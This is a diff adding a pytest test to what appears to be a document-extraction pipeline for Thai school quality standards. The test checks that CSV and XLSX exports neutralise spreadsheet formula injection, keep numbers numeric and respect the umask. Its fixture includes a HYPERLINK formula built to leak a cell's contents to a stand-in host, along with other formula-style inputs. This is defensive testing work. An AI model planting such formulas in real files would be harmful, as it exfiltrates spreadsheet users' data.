@@ -59,3 +59,28 @@ def test_review_rows_carry_their_reason(dataset):
     flagged = ind[ind["needs_review"]]
     assert len(flagged) == 5 and flagged["review_reason"].str.len().min() > 10
     assert flagged["level"].isna().all()
+
+
+def test_formula_injection_is_neutralised_and_numbers_stay_numbers(tmp_path, make_file):
+    """Document text and file names that a spreadsheet would run: text in CSV and XLSX, never a formula."""
+    import os
+
+    import openpyxl
+
+    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"คลิก")'
+    page = make_file("=cmd.html", f"<p>มาตรฐานที่ 1 {evil}</p><p>ตัวบ่งชี้ที่ 1 @SUM(1+1) ระดับดีมาก</p>")
+    ds = pipeline.extract([page])
+    os.umask(0o022)
+    write_dataset(ds, tmp_path)
+    csv = (tmp_path / "indicators.csv").read_text(encoding="utf-8-sig")
+    assert "'@SUM" in csv and ",'=" not in csv.split("\n", 1)[0]
+    docs = (tmp_path / "documents.csv").read_text(encoding="utf-8-sig")
+    assert "'=cmd.html" not in docs  # a path starts with its folder, not with "="
+    wb = openpyxl.load_workbook(tmp_path / "sarkit.xlsx")
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)  # no formula anywhere
+    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
+    levels = [c.value for c in wb["indicators"]["G"][1:]]
+    assert levels == [4]  # numbers stay numbers
+    assert json.loads((tmp_path / "documents.jsonl").read_text(encoding="utf-8").splitlines()[0])["file"]
+    assert oct((tmp_path / "documents.csv").stat().st_mode & 0o777) == "0o644"  # the user's umask, not 0600
